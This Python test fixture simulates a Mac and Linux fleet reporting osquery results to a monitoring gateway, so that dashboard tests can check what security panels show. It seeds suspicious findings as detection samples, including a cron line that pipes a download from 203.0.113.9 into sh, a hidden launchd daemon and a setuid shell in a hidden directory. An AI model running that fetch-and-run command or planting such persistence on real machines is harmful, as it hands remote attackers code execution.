"""A known fleet, sent through the gateway as its clients send: what the dashboards must show.

Macs run Flock agent: they register (``/register``) and send osqueryd's *differential*
result lines of the agent's twigs (``/submit``): the first run of a query adds every row
(``counter`` 0), later runs only what changed (``removed`` and ``added`` lines); a host
whose state does not change sends nothing for days. A new Mac's hourly twigs come first,
its daily ones (``os_version`` among them) two hours later. The agent's twigs select whole tables
(``select * from ...``): no ``os_platform`` column anywhere.

Linux hosts run osqueryd with the gateway's reviewed schedule: they enroll
(``/osquery/enroll``) and log *snapshots* (``/osquery/log``): each run sends the whole
result set of a query, which replaces the previous one.

Each batch is sent at its own time: the gateway's clock is set back to it while the batch
is sent (``clock_at``), so a host silent for ten days last authenticated ten days ago.

The answers the dashboards must give (``dashboards/tests/test_dashboards_truth.py`` holds
them panel by panel):

* macOS: 6 Macs. macOS 14.5 on mac-1, mac-2, mac-3 and mac-6 (mac-6 upgraded from 13.6:
  a ``removed`` line for 13.6), 13.6 (old) on mac-4 and mac-5. FileVault off on mac-2 and
  mac-5 (mac-3 turned it on: ``removed`` "off"). Firewall off now on mac-1 and mac-4; mac-3
  turned it off and on again within the last day. Gatekeeper off on mac-5, SIP off on
  mac-4, guest account on mac-2. Remote login on mac-1; screen and file sharing on mac-2.
  uBlock Origin on every Mac, an obscure extension on mac-3 only, a coupon extension
  installed and removed on mac-2. mac-4 changed nothing for 5 days; mac-5 is silent for 10.
* Linux: 4 hosts. Ubuntu 22.04 on linux-1 and linux-2, Debian 12 on linux-3, Ubuntu
  20.04 (old) on linux-4. LUKS on linux-1 and linux-3, none on linux-2 and linux-4. A setuid
  binary in /tmp on linux-2 only; a cron job on linux-3 that a later snapshot no longer
  has; an odd /etc/hosts entry on linux-4; linux-4 last sent 3 days ago.
* Macs also send cron jobs, setuid binaries and /etc/hosts (twigs for both platforms):
  none of them may show on the Linux dashboard, and linux-1's Chrome extension none on the
  macOS one.
"""

from __future__ import annotations

import base64
import contextlib
import json
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any

HOUR = 3600
DAY = 86400
ENROLL_SECRET = "dashboards-truth-enroll-secret-0123"  # noqa: S105 (the test's own)


# Modules whose monotonic clock measures how long ago the process last did something for a
# host (the state's "host document written within the hour"): days apart in the fleet's
# history must be days apart there too. Other monotonic clocks (bulk deadlines, timeouts)
# stay real.
HOST_CLOCK_MODULES = ("flock_gateway.state",)


class _ShiftedTime:
    """The ``time`` module, with ``monotonic`` moved by ``offset`` seconds."""

    def __init__(self, offset: float) -> None:
        self._offset = offset

    def monotonic(self) -> float:
        return time.monotonic() + self._offset

    def __getattr__(self, name: str) -> Any:
        return getattr(time, name)


@contextlib.contextmanager
def clock_at(unix: float) -> Iterator[None]:
    """The gateway's clock reads ``unix`` plus the real time elapsed since entering:
    ``datetime.now`` in every flock_gateway module, and the monotonic clock of
    ``HOST_CLOCK_MODULES`` (moved by the same amount)."""
    seconds = unix - time.time()
    offset = timedelta(seconds=seconds)

    class Shifted(datetime):
        @classmethod
        def now(cls, tz=None):
            return datetime.now(tz) + offset

    patched: list[tuple[Any, str, Any]] = []
    for name, module in list(sys.modules.items()):
        if name.startswith("flock_gateway") and getattr(module, "datetime", None) is datetime:
            patched.append((module, "datetime", datetime))
            module.datetime = Shifted
        if name in HOST_CLOCK_MODULES and getattr(module, "time", None) is time:
            patched.append((module, "time", time))
            module.time = _ShiftedTime(seconds)
    try:
        yield
    finally:
        for module, attr, real in patched:
            setattr(module, attr, real)


def _calendar(unix: int) -> str:
    return time.strftime("%a %b %d %H:%M:%S %Y UTC", time.gmtime(unix))


@dataclass
class Sent:
    """Every row the fleet sent: (query name, unix time of its line) per stored document."""

    rows: list[tuple[str, int]] = field(default_factory=list)


def _line(host_id: str, name: str, unix: int, counter: int, decorations: dict) -> dict:
    return {
        "name": name,
        "hostIdentifier": host_id,
        "calendarTime": _calendar(unix),
        "unixTime": unix,
        "epoch": 0,
        "counter": counter,
        "numerics": False,
        "decorations": decorations,
    }


class Mac:
    """A Mac running Flock agent: registered, sending its twigs' differential lines."""

    def __init__(self, client, sent: Sent, uuid: str, name: str) -> None:
        self.client, self.sent, self.uuid, self.name = client, sent, uuid, name
        self.counters: dict[str, int] = {}
        self.token = ""

    def register(self, at: int) -> None:
        with clock_at(at):
            res = self.client.post(
                "/register",
                json={"username": self.uuid, "name": self.name},
                headers={"User-Agent": "Flock Agent 0.1.4"},
            )
        assert res.status_code == 200, res.data
        self.token = json.loads(res.data)["auth_token"]

    def lines(self, name: str, at: int, added=(), removed=()) -> list[dict]:
        """One run of twig ``name``: its removed rows, then its added rows."""
        counter = self.counters.get(name, -1) + 1
        self.counters[name] = counter
        out = []
        for action, rows in (("removed", removed), ("added", added)):
            for columns in rows:
                line = _line(self.uuid, name, at, counter, {"username": "nick"})
                line.update(columns=dict(columns), action=action)
                out.append(line)
        return out

    def submit(self, at: int, lines: list[dict]) -> None:
        auth = base64.b64encode(f"{self.uuid}:{self.token}".encode()).decode()
        with clock_at(at + 30):
            res = self.client.post(
                "/submit",
                json=lines,
                headers={"Authorization": f"Basic {auth}", "User-Agent": "Flock Agent 0.1.4"},
            )
        assert res.status_code == 200, res.data
        body = json.loads(res.data)
        assert body["error"] is False, body
        self.sent.rows += [(line["name"], line["unixTime"]) for line in lines]


class LinuxHost:
    """A Linux host running osqueryd with the reviewed schedule: enrolled, logging
    snapshots."""

    def __init__(self, client, sent: Sent, uuid: str, computer_name: str, os: dict) -> None:
        self.client, self.sent, self.uuid, self.os = client, sent, uuid, os
        self.computer_name = computer_name
        self.node_key = ""
        self.counter = 0

    def _post(self, path: str, body: dict) -> dict:
        res = self.client.post(
            path,
            data=json.dumps(body),
            headers={"Content-Type": "application/json", "User-Agent": "osquery/5.10.2"},
        )
        assert res.status_code == 200, res.data
        return json.loads(res.data)

    def enroll(self, at: int) -> None:
        details = {
            "os_version": self.os,
            "osquery_info": {"version": "5.10.2", "uuid": self.uuid},
            "system_info": {"hostname": self.computer_name, "computer_name": self.computer_name,
                            "uuid": self.uuid},
        }  # fmt: skip
        with clock_at(at):
            body = self._post(
                "/osquery/enroll",
                {"enroll_secret": ENROLL_SECRET, "host_identifier": self.uuid,
                 "host_details": details},
            )  # fmt: skip
        self.node_key = body["node_key"]

    def snapshots(self, at: int, results: dict[str, list[dict]]) -> None:
        """One run of each query of ``results``, logged together."""
        lines = []
        for name, rows in results.items():
            self.counter += 1
            line = _line(self.uuid, name, at, self.counter, {"host_uuid": self.uuid})
            line.update(snapshot=[dict(r) for r in rows], action="snapshot")
            lines.append(line)
        with clock_at(at + 30):
            body = self._post(
                "/osquery/log", {"node_key": self.node_key, "log_type": "result", "data": lines}
            )
        assert body.get("node_invalid") is False, body
        for line in lines:
            self.sent.rows += [(line["name"], line["unixTime"])] * len(line["snapshot"])


# ---- what the hosts have ------------------------------------------------------------------


def mac_os(version: str) -> dict[str, str]:
    major, minor = version.split(".")
    return {"name": "macOS", "version": version, "major": major, "minor": minor, "patch": "0",
            "build": "23F79", "platform": "darwin", "platform_like": "darwin",
            "codename": "", "arch": "arm64"}  # fmt: skip


def filevault(on: bool) -> dict[str, str]:
    return {"name": "/dev/disk3s1", "uuid": "8A5D2C1E-0000-4000-8000-000000000001",
            "encrypted": "1" if on else "0", "type": "APFS",
            "encryption_status": "encrypted" if on else "not encrypted",
            "filevault_status": "on" if on else "off", "uid": "", "user_uuid": ""}  # fmt: skip


def alf(on: bool) -> dict[str, str]:
    return {"global_state": "1" if on else "0", "stealth_enabled": "0", "logging_enabled": "1",
            "allow_signed_enabled": "1", "firewall_unload": "0", "version": "1.6",
            "logging_option": "0", "allow_downloads_signed_enabled": "1"}  # fmt: skip


def gatekeeper(on: bool) -> dict[str, str]:
    return {"assessments_enabled": "1" if on else "0", "dev_id_enabled": "1",
            "version": "5.0", "opaque_version": "5.0"}  # fmt: skip


def sip(on: bool) -> dict[str, str]:
    return {"config_flag": "sip", "enabled": "1" if on else "0",
            "enabled_nvram": "1" if on else "0"}  # fmt: skip


SHARING_OFF = {s: "0" for s in (
    "screen_sharing", "file_sharing", "printer_sharing", "remote_login", "remote_management",
    "remote_apple_events", "internet_sharing", "bluetooth_sharing", "disc_sharing",
    "content_caching")}  # fmt: skip


def sharing(**on: str) -> dict[str, str]:
    return {**SHARING_OFF, **on}


def login_window(guest: bool) -> list[dict[str, str]]:
    return [
        {"key": "GuestEnabled", "subkey": "", "value": "1" if guest else "0"},
        {"key": "lastUserName", "subkey": "", "value": "nick"},
    ]


def chrome_ext(name: str, identifier: str) -> dict[str, str]:
    return {"browser_type": "chrome", "uid": "501", "name": name, "profile": "Default",
            "profile_path": "/Users/nick/Library/Application Support/Google/Chrome/Default",
            "referenced_identifier": identifier, "identifier": identifier, "version": "1.0",
            "description": "", "default_locale": "en", "current_locale": "en",
            "update_url": "", "author": "", "persistent": "0",
            "path": f"/Users/nick/Library/.../{identifier}", "permissions": "",
            "optional_permissions": "", "manifest_hash": "", "referenced": "1",
            "from_webstore": "true", "state": "1", "install_time": "", "install_timestamp": "0",
            "manifest_json": "", "key": ""}  # fmt: skip


UBLOCK = ("uBlock Origin", "cjpalhdlnbpafiamejdnhcphjbkeiagm")
OBSCURE = ("Obscure Tab Helper", "oooooooooobscureeeeeeeeeeeeeeeee")
COUPONS = ("Coupon Finder", "ccccccccccccouponnnnnnnnnnnnnnnn")


def suid(path: str, os_platform: str | None = None) -> dict[str, str]:
    row = {"path": path, "username": "root", "groupname": "root", "permissions": "S"}
    return row if os_platform is None else {**row, "os_platform": os_platform}


def cron(command: str, os_platform: str | None = None) -> dict[str, str]:
    row = {"event": "", "minute": "25", "hour": "6", "day_of_month": "*", "month": "*",
           "day_of_week": "*", "command": command, "path": "/etc/crontab"}  # fmt: skip
    return row if os_platform is None else {**row, "os_platform": os_platform}


def hosts_entry(address: str, names: str, os_platform: str | None = None) -> dict[str, str]:
    row = {"address": address, "hostnames": names}
    return row if os_platform is None else {**row, "os_platform": os_platform}


ODD_SUID = "/opt/.hidden/sh"  # on linux-2 only
LOGROTATE = "test -x /usr/sbin/anacron || /usr/sbin/logrotate /etc/logrotate.conf"
EVIL_CRON = "curl -s http://203.0.113.9/x | sh"


def linux_os(name: str, version: str, platform: str) -> dict[str, str]:
    major, _, minor = version.partition(".")
    return {"name": name, "version": version, "major": major, "minor": minor or "0",
            "patch": "0", "build": "", "platform": platform, "platform_like": "debian",
            "codename": "", "arch": "x86_64"}  # fmt: skip


def luks(on: bool, platform: str) -> dict[str, str]:
    return {"name": "/dev/dm-0" if on else "/dev/sda2", "uuid": "",
            "encrypted": "1" if on else "0", "type": "LUKS2" if on else "",
            "encryption_status": "encrypted" if on else "not encrypted",
            "os_platform": platform}  # fmt: skip


@dataclass
class Fleet:
    macs: dict[str, Mac]
    linux: dict[str, LinuxHost]
    sent: Sent
    now: int

    def username(self, host: str) -> str:
        if host in self.macs:
            return self.macs[host].uuid
        return f"osq-{self.linux[host].uuid}"

    def agent_name(self, host: str) -> str:
        return self.macs[host].name if host in self.macs else self.linux[host].computer_name


def send_fleet(agent_client, osquery_client, now: int) -> Fleet:
    """Send the whole fleet's history through the gateway; return who is who."""
    sent = Sent()
    macs = {
        f"mac-{i}": Mac(agent_client, sent, f"5A1F4E2B-3C4D-4E6F-8A8B-00000000000{i}", f"Mac {i}")
        for i in range(1, 7)
    }
    start = {"mac-4": now - 5 * DAY, "mac-5": now - 10 * DAY}
    for host, mac in macs.items():
        first = start.get(host, now - 3 * DAY)
        mac.register(first - 60)
        i = int(host[-1])
        version = {"mac-4": "13.6", "mac-5": "13.6", "mac-6": "13.6"}.get(host, "14.5")
        # The agent's hourly twigs run first; its daily ones (os_version among them) up to
        # a day later: until then its rows tell their platform only by the twigs that run
        # on macOS alone (alf here).
        daily = first + 2 * HOUR
        hourly_lines = [
            *mac.lines("alf", first, added=[alf(host not in {"mac-1", "mac-4"})]),
            *mac.lines("suid_bin", first, added=[suid("/usr/bin/sudo")]),
            *mac.lines("crontab", first, added=[cron(LOGROTATE)] if i == 1 else []),
        ]
        daily_lines = [
            *mac.lines("os_version", daily, added=[mac_os(version)]),
            *mac.lines("disk_encryption", daily,
                       added=[filevault(host not in {"mac-2", "mac-3", "mac-5"})]),
            *mac.lines("gatekeeper", daily, added=[gatekeeper(host != "mac-5")]),
            *mac.lines("sip", daily, added=[sip(host != "mac-4")]),
            *mac.lines("loginwindow1", daily, added=login_window(guest=host == "mac-2")),
            *mac.lines("sharing_preferences", daily, added=[
                sharing(remote_login="1") if host == "mac-1"
                else sharing(screen_sharing="1", file_sharing="1") if host == "mac-2"
                else sharing()]),
            *mac.lines("chrome_extensions", daily, added=[
                chrome_ext(*UBLOCK),
                *([chrome_ext(*OBSCURE)] if host == "mac-3" else []),
                *([chrome_ext(*COUPONS)] if host == "mac-2" else []),
            ]),
            *mac.lines("etc_hosts", daily, added=[hosts_entry("127.0.0.1", "localhost")]),
        ]  # fmt: skip
        if host == "mac-1":
            hourly_lines += [
                *mac.lines("installed_applications", first, added=[
                    {"name": "Signal.app", "path": "/Applications/Signal.app",
                     "bundle_identifier": "org.whispersystems.signal-desktop",
                     "bundle_name": "Signal", "bundle_short_version": "7.1.0",
                     "bundle_version": "7.1.0"}]),
                *mac.lines("startup_items", first, added=[
                    {"name": "Dropbox", "path": "/Applications/Dropbox.app", "args": "",
                     "type": "Login Item", "source": "", "status": "enabled",
                     "username": "nick"}]),
            ]  # fmt: skip
            daily_lines += [
                *mac.lines("browser_plugins", daily, added=[
                    {"name": "Java Applet", "identifier": "com.oracle.java.JavaAppletPlugin",
                     "version": "8.0", "path": "/Library/Internet Plug-Ins/Java.plugin",
                     "disabled": "0"}]),
                *mac.lines("firefox_addons", daily, added=[
                    {"name": "Privacy Badger", "identifier": "jid1-MnnxcxisBPnSXQ@jetpack",
                     "type": "extension", "version": "2024.1", "active": "1"}]),
                *mac.lines("safari_extensions", daily, added=[
                    {"name": "1Password", "identifier": "com.1password.safari",
                     "version": "8.10"}]),
                *mac.lines("opera_extensions", daily, added=[
                    {"name": "Opera Ad Blocker", "identifier": "opera-adblock",
                     "version": "1.0"}]),
            ]  # fmt: skip
        if host in {"mac-1", "mac-2"}:
            hourly_lines += mac.lines("launchd", first, added=[
                {"path": "/Library/LaunchDaemons/com.apple.a.plist", "name": "com.apple.a.plist",
                 "label": "com.apple.a", "program": "/usr/libexec/a", "run_at_load": "1"},
                *([{"path": "/Library/LaunchDaemons/com.evil.b.plist", "name": "com.evil.b.plist",
                    "label": "com.evil.b", "program": "/Users/Shared/.b", "run_at_load": "1"}]
                  if host == "mac-2" else []),
            ])  # fmt: skip
        mac.submit(first, hourly_lines)
        mac.submit(daily, daily_lines)

    # later changes (the differential lines of later runs)
    m = macs
    # (no time within minutes of a panel's range boundary: "now" moves while the test runs)
    m["mac-6"].submit(
        now - 40 * HOUR,
        m["mac-6"].lines(
            "os_version", now - 40 * HOUR, removed=[mac_os("13.6")], added=[mac_os("14.5")]
        ),
    )
    m["mac-3"].submit(
        now - 20 * HOUR,
        m["mac-3"].lines(
            "disk_encryption", now - 20 * HOUR, removed=[filevault(False)], added=[filevault(True)]
        ),
    )
    m["mac-2"].submit(now - 20 * HOUR, [
        *m["mac-2"].lines("chrome_extensions", now - 20 * HOUR, removed=[chrome_ext(*COUPONS)]),
        *m["mac-2"].lines("launchd", now - 20 * HOUR, removed=[
            {"path": "/Library/LaunchDaemons/com.evil.b.plist", "name": "com.evil.b.plist",
             "label": "com.evil.b", "program": "/Users/Shared/.b", "run_at_load": "1"}]),
    ])  # fmt: skip
    m["mac-3"].submit(
        now - 2 * HOUR,
        m["mac-3"].lines("alf", now - 2 * HOUR, removed=[alf(True)], added=[alf(False)]),
    )
    m["mac-3"].submit(
        now - HOUR, m["mac-3"].lines("alf", now - HOUR, removed=[alf(False)], added=[alf(True)])
    )
    # mac-1 answers again within the last day (its firewall is still off: nothing changed in
    # alf, so no alf line); a retry of that request changes nothing
    again = m["mac-1"].lines("etc_hosts", now - HOUR, added=[hosts_entry("10.0.0.2", "nas")])
    m["mac-1"].submit(now - HOUR, again)
    m["mac-1"].submit(now - HOUR, again)
    sent.rows = sent.rows[: -len(again)]  # the retry is stored once

    linux = {
        "linux-1": LinuxHost(osquery_client, sent, "1A2B3C4D-0000-4000-8000-000000000001",
                             "build-1", linux_os("Ubuntu", "22.04", "ubuntu")),
        "linux-2": LinuxHost(osquery_client, sent, "1A2B3C4D-0000-4000-8000-000000000002",
                             "build-2", linux_os("Ubuntu", "22.04", "ubuntu")),
        "linux-3": LinuxHost(osquery_client, sent, "1A2B3C4D-0000-4000-8000-000000000003",
                             "web-3", linux_os("Debian GNU/Linux", "12", "debian")),
        "linux-4": LinuxHost(osquery_client, sent, "1A2B3C4D-0000-4000-8000-000000000004",
                             "old-4", linux_os("Ubuntu", "20.04", "ubuntu")),
    }  # fmt: skip
    for host, lx in linux.items():
        first = now - (3 * DAY if host == "linux-4" else 30 * HOUR)
        lx.enroll(first - 60)
        p = lx.os["platform"]
        runs = [first] if host == "linux-4" else [first, now - 2 * HOUR]
        for n, at in enumerate(runs):
            lx.snapshots(at, {
                "os_version": [lx.os],
                "disk_encryption": [luks(host in {"linux-1", "linux-3"}, p)],
                "suid_bin": [suid("/usr/bin/sudo", p),
                             *([suid(ODD_SUID, p)] if host == "linux-2" else [])],
                "crontab": [cron(LOGROTATE, p),
                            *([cron(EVIL_CRON, p)] if host == "linux-3" and n == 0 else [])],
                "etc_hosts": [hosts_entry("127.0.0.1", "localhost", p),
                              *([hosts_entry("10.6.6.6", "updates.example.com", p)]
                                if host == "linux-4" else [])],
                **({"chrome_extensions": [
                    {"browser_type": "chrome", "name": UBLOCK[0], "identifier": UBLOCK[1],
                     "version": "1.0", "profile": "Default", "os_platform": p}]}
                   if host == "linux-1" else {}),
            })  # fmt: skip
    return Fleet(macs, linux, sent, now)


def stamp(unix: int) -> str:
    return datetime.fromtimestamp(unix, tz=UTC).strftime("%Y-%m-%dT%H:%M:%S.000Z")
